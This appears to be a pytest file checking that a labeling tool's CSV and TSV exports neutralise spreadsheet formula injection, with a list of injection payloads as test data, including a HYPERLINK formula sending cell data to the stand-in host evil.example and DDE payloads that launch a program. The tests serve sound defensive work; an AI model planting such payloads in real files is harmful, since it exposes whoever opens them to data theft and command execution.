"""Row 14: a table for a spreadsheet can be had without cells that the spreadsheet would run; as it is by default, for the way back."""

import csv
import io

import pytest

from harness.live import Client

CONFIG = '<View><Text name="t" value="$text"/><TextArea name="note" toName="t"/></View>'
FORMULAS = [
    "=1+1", '=HYPERLINK("http://evil.example?x="&A1,"click")', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1",
    "=cmd|'/C calc'!A0",
]  # fmt: skip


@pytest.fixture
def project(owner: Client) -> int:
    number = int(owner.project(CONFIG)["id"])
    for task, text in zip(
        owner.import_tasks(number, [{"text": text, "n": -5} for text in FORMULAS]), FORMULAS, strict=True
    ):
        region = {"id": "r", "from_name": "note", "to_name": "t", "type": "textarea", "value": {"text": [text]}}
        owner.call("POST", f"/api/tasks/{task}/annotations/", json={"result": [region]})
    return number


def table(client: Client, project: int, kind: str, **params: str) -> list[dict[str, str]]:
    answer = client.get(f"/api/projects/{project}/export", params={"exportType": kind, **params})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-disposition"].startswith("attachment")
    return list(csv.DictReader(io.StringIO(answer.text, newline=""), delimiter="," if kind == "CSV" else "\t"))


@pytest.mark.parametrize("kind", ["CSV", "TSV"])
def test_with_the_option_no_text_cell_begins_like_a_formula(owner: Client, project: int, kind: str) -> None:
    rows = table(owner, project, kind, neutralize_formulas="true")
    assert sorted(row["text"] for row in rows) == sorted(f"'{text}" for text in FORMULAS)
    for row in rows:
        for name, cell in row.items():
            assert name == "n" or not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (name, cell)
        assert row["n"] == "-5", "a number stays a number"


@pytest.mark.parametrize("kind", ["CSV", "TSV"])
def test_without_it_the_texts_are_what_they_were(owner: Client, project: int, kind: str) -> None:
    assert sorted(row["text"] for row in table(owner, project, kind)) == sorted(FORMULAS)


def test_a_column_name_is_neutralised_too(owner: Client) -> None:
    number = int(owner.project(CONFIG)["id"])
    task = owner.import_tasks(number, [{"text": "x", "=cmd()": 1}])[0]
    owner.call("POST", f"/api/tasks/{task}/annotations/", json={"result": []})
    (row,) = table(owner, number, "CSV", neutralize_formulas="true")
    assert not [name for name in row if name.startswith("=")]


def test_an_unclear_option_is_refused(owner: Client, project: int) -> None:
    answer = owner.get(f"/api/projects/{project}/export", params={"exportType": "CSV", "neutralize_formulas": "maybe"})
    assert answer.status_code == 400
